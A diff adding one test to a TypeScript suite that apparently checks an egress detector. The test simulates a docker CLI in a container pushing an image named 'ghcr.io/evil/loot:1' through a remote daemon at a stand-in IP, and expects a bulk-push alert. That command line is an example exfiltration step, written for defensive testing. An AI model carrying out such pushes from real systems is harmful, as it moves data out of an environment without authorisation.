@@ -293,6 +293,19 @@ describe('docker.sock bridging', () => {
     expect(alerts[0]!.egressBytes).toBe(80 * MiB);
   });
 
+  it("counts what the push's own processes sent (a docker CLI talking to a remote daemon over TCP)", () => {
+    const s = new Scenario();
+    const c = s.container();
+    const docker = s.exec(c, '/usr/bin/docker', '-H tcp://203.0.113.7:2376 push ghcr.io/evil/loot:1', {
+      parent: s.init(c),
+    });
+    s.wait(20).connect(docker, '203.0.113.7', 2376);
+    for (let i = 0; i < 80; i++) s.send(docker, '203.0.113.7', 2376, MiB);
+    expect(brief(run(s.events).alerts)).toEqual([
+      { rule: 'bulk-push-without-reads', severity: 'medium', tool: 'docker', destination: 'ghcr.io' },
+    ]);
+  });
+
   it('does not link daemon egress outside the span', () => {
     const { alerts } = run(dockerPush(60_000).events);
     expect(alerts).toHaveLength(1);
